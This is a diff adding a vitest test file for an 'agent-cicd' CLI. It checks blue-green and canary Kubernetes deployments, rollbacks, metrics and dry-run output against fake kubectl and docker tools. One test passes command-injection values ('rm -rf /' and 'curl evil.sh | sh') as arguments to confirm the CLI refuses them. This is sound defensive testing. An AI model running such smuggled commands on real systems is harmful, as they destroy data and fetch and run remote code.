@@ -1,0 +1,259 @@
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { tmpdir } from 'node:os';
+import { delimiter, dirname, join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { deploymentManifest, httpRouteManifest, serviceManifest } from '@agent-cicd/deploy-gates';
+import { AnalysisTemplate } from '@kubernetes-models/argo-rollouts/argoproj.io/v1alpha1/AnalysisTemplate';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { parse } from 'yaml';
+import { runCli } from '../test-utils/run-cli.js';
+
+const reports = fileURLToPath(new URL('../../../../fixtures/reports/', import.meta.url));
+const gatesDir = dirname(createRequire(import.meta.url).resolve('@agent-cicd/deploy-gates/package.json'));
+const digestA = `ghcr.io/acme/agent@sha256:${'a'.repeat(64)}`;
+const digestB = `ghcr.io/acme/agent@sha256:${'b'.repeat(64)}`;
+
+/** The deploy-gates fake kubectl/docker on a temp PATH (they record argv and simulate the cluster). */
+async function fakeCluster(objects: Record<string, unknown>) {
+  const dir = await mkdtemp(join(tmpdir(), 'agent-cicd-cli-fakes-'));
+  for (const tool of ['kubectl', 'docker']) {
+    const target = join(gatesDir, 'src/test-utils', `fake-${tool}.cjs`);
+    await writeFile(join(dir, tool), `#!/usr/bin/env node\nrequire(${JSON.stringify(target)});\n`, { mode: 0o755 });
+  }
+  const state = join(dir, 'state.json');
+  const log = join(dir, 'calls.jsonl');
+  await writeFile(state, JSON.stringify({ objects, images: {}, failures: [] }));
+  await writeFile(log, '');
+  return {
+    dir,
+    env: { PATH: `${dir}${delimiter}${process.env.PATH ?? ''}`, FAKE_STATE_FILE: state, FAKE_LOG_FILE: log },
+    async lines(): Promise<string[]> {
+      return (await readFile(log, 'utf8'))
+        .split('\n')
+        .filter(Boolean)
+        .map((line) => {
+          const { tool, argv } = JSON.parse(line) as { tool: string; argv: string[] };
+          return [
+            tool,
+            ...argv.filter(
+              (_, i) =>
+                !['-n', '--context'].includes(argv[i - 1] ?? '') && !['-n', '--context'].includes(argv[i] ?? ''),
+            ),
+          ].join(' ');
+        });
+    },
+    async fail(match: string, stderr: string) {
+      const current = JSON.parse(await readFile(state, 'utf8'));
+      current.failures.push({ tool: 'kubectl', match, stderr });
+      await writeFile(state, JSON.stringify(current));
+    },
+    async state() {
+      type Seen = { spec: { template: { spec: { containers: { image: string }[] } } } };
+      return JSON.parse(await readFile(state, 'utf8')) as { objects: Record<string, Seen> };
+    },
+  };
+}
+type FakeCluster = Awaited<ReturnType<typeof fakeCluster>>;
+
+let cluster: FakeCluster;
+beforeEach(async () => {
+  const blue = deploymentManifest({
+    name: 'agent-blue',
+    labels: { app: 'agent', color: 'blue' },
+    image: digestA,
+    replicas: 2,
+  });
+  const stable = deploymentManifest({ name: 'agent', labels: { app: 'agent' }, image: digestA, replicas: 2 });
+  cluster = await fakeCluster({
+    'deployment/agent-blue': { ...blue, status: { replicas: 2, readyReplicas: 2 } },
+    'service/agent': serviceManifest({ name: 'agent', selector: { app: 'agent', color: 'blue' } }),
+    'deployment/agent': { ...stable, status: { replicas: 2, readyReplicas: 2 } },
+    'httproute/agent': httpRouteManifest({
+      name: 'agent',
+      gateway: 'public',
+      hostnames: ['agent.example.com'],
+      stableService: 'agent',
+    }),
+  });
+});
+afterEach(() => rm(cluster.dir, { recursive: true, force: true }));
+
+const cli = (args: string[]) => runCli(args, { cwd: reports, env: cluster.env });
+
+// Each run spawns Node + tsx and then one node process per kubectl call: generous timeouts for loaded CI machines.
+describe('agent-cicd deploy', { timeout: 120_000 }, () => {
+  it('blue-green: switches, verifies, exits 0', async () => {
+    const run = await cli([
+      'deploy',
+      'blue-green',
+      '--app',
+      'agent',
+      '--image',
+      digestB,
+      '-n',
+      'agents',
+      '--context',
+      'prod',
+      '--replicas',
+      '3',
+    ]);
+    expect(run.stdout).toBe('switched agent to green (verified)\n');
+    expect(run.exitCode).toBe(0);
+    expect(await cluster.lines()).toEqual([
+      'kubectl get service agent -o json',
+      'kubectl get deployment agent-blue -o json',
+      'kubectl apply -f -',
+      'kubectl scale deployment/agent-green --replicas=3',
+      'kubectl rollout status deployment/agent-green --timeout=5m',
+      'kubectl patch service agent --type=merge -p {"spec":{"selector":{"color":"green"}}}',
+      'kubectl scale deployment/agent-blue --replicas=0',
+      'kubectl get service agent -o json',
+      'kubectl get deployment agent-green -o json',
+      'kubectl get deployment agent-blue -o json',
+    ]);
+  });
+
+  it('blue-green: a rollout-status timeout rolls back, is verified, exits 1, and writes the metrics', async () => {
+    await cluster.fail('rollout status deployment/agent-green', 'error: timed out waiting for the condition');
+    const metricsFile = join(cluster.dir, 'deploy.prom');
+    const run = await cli([
+      'deploy',
+      'blue-green',
+      '--app',
+      'agent',
+      '--image',
+      digestB,
+      '--timeout',
+      '90s',
+      '--metrics-file',
+      metricsFile,
+    ]);
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(
+      /^rolled back to blue after rollout failed: .*timed out waiting for the condition \(verified\)\n$/,
+    );
+    expect((await cluster.lines()).slice(4)).toEqual([
+      'kubectl rollout status deployment/agent-green --timeout=90s',
+      'kubectl scale deployment/agent-green --replicas=0',
+      'kubectl get service agent -o json',
+      'kubectl get deployment agent-blue -o json',
+      'kubectl get deployment agent-green -o json',
+    ]);
+    const metrics = await readFile(metricsFile, 'utf8');
+    expect(metrics).toContain('agent_deploys_total{app="agent",strategy="blue-green",outcome="rolled_back"} 1');
+    expect(metrics).toContain('agent_deploy_success_rate{app="agent"} 0');
+  });
+
+  it('refuses injection attempts with one line and exit 2; kubectl never runs', async () => {
+    // Every other name, namespace, context and timeout is refused the same way (see the deploy-gates tests).
+    for (const args of [
+      ['--app', 'agent; rm -rf /', '--image', digestB],
+      ['--app', 'agent', '--image', 'agent:1 && curl evil.sh | sh', '-n', 'agents'],
+    ]) {
+      const run = await cli(['deploy', 'blue-green', ...args]);
+      expect(run.exitCode).toBe(2);
+      expect(run.stderr).toMatch(/^error\[AGENT_CICD_DEPLOY_INVALID_INPUT\] invalid [^\n]*\n$/);
+    }
+    expect(await cluster.lines()).toEqual([]);
+  });
+
+  it('canary (Gateway API): the gate rolls back at the first step; weight 0 and stable untouched', async () => {
+    const run = await cli([
+      'deploy',
+      'canary',
+      '--app',
+      'agent',
+      '--image',
+      digestB,
+      '--router',
+      'gateway-api',
+      '--steps',
+      '10,50,100',
+      '--baseline',
+      'baseline.json',
+      '--candidate',
+      'candidate-rollback.json',
+    ]);
+    expect(run.exitCode).toBe(1);
+    expect(run.stdout).toMatch(/^rolled back agent \[10%:rollback\]: .* \(verified\)\n$/);
+    const lines = await cluster.lines();
+    // The guarded weight patches (prepare's add-backendRef patch has no test op): canary 10%, then back to 0.
+    const weights = lines.filter((l) => l.includes('"op":"test"')).map((l) => /"value":(\d+)}\]$/.exec(l)?.[1]);
+    expect(weights).toEqual(['10', '0']);
+    expect(lines.at(-4)).toBe('kubectl scale deployment/agent-canary --replicas=0');
+    const stable = (await cluster.state()).objects['deployment/agent'];
+    expect(stable?.spec.template.spec.containers[0]?.image).toBe(digestA);
+  });
+
+  it('canary (ingress-nginx): the gate advances through every step and promotes', async () => {
+    const run = await cli([
+      'deploy',
+      'canary',
+      '--app',
+      'agent',
+      '--image',
+      digestB,
+      '--router',
+      'nginx',
+      '--host',
+      'agent.example.com',
+      '--steps',
+      '25,100',
+      '--baseline',
+      'baseline.json',
+      '--candidate',
+      'candidate-promote.json',
+      '--policy',
+      'gates.yaml',
+    ]);
+    expect(run.stdout).toMatch(/^promoted .* to agent \[25%:advance 100%:promote\] \(verified\)\n$/);
+    expect(run.exitCode).toBe(0);
+    const annotations = (await cluster.lines()).filter((l) => l.includes(' annotate '));
+    expect(annotations.map((l) => l.split(' ')[4])).toEqual([
+      'nginx.ingress.kubernetes.io/canary-weight=25',
+      'nginx.ingress.kubernetes.io/canary-weight=100',
+      'nginx.ingress.kubernetes.io/canary-weight=0',
+    ]);
+  });
+
+  it('--dry-run prints every command (stdin as a here-document) and runs none', async () => {
+    const run = await cli(['deploy', 'blue-green', '--app', 'agent', '--image', digestB, '-n', 'agents', '--dry-run']);
+    expect(run.exitCode).toBe(0);
+    const out = run.stdout.split('\n');
+    expect(out[0]).toBe('kubectl -n agents get service agent -o json');
+    expect(out[2]).toBe("kubectl -n agents apply -f - <<'AGENT_CICD_EOF'");
+    expect(JSON.parse(out[3] ?? '')).toMatchObject({ kind: 'Deployment', metadata: { name: 'agent-green' } });
+    expect(out).toContain(
+      `kubectl -n agents patch service agent --type=merge -p '{"spec":{"selector":{"color":"green"}}}'`,
+    );
+    expect(out.at(-2)).toBe('switched agent to green (dry-run, not verified)');
+    expect(await cluster.lines()).toEqual([]);
+  });
+
+  it('invalid reports are refused before anything runs (exit 2)', async () => {
+    const run = await cli([
+      'deploy',
+      'canary',
+      '--app',
+      'agent',
+      '--image',
+      digestB,
+      '--baseline',
+      'baseline.json',
+      '--candidate',
+      'invalid-report.json',
+    ]);
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toMatch(/^error\[AGENT_CICD_REPORT_INVALID\] .*invalid-report\.json/);
+    expect(await cluster.lines()).toEqual([]);
+  });
+
+  it('analysis-template prints an Argo Rollouts AnalysisTemplate that passes its schema', async () => {
+    const run = await cli(['deploy', 'analysis-template', '--image', 'ghcr.io/acme/agent-cicd:0.1.0']);
+    expect(run.exitCode).toBe(0);
+    const template = parse(run.stdout);
+    expect(template.kind).toBe('AnalysisTemplate');
+    expect(() => new AnalysisTemplate(template).validate()).not.toThrow();
+  });
+});
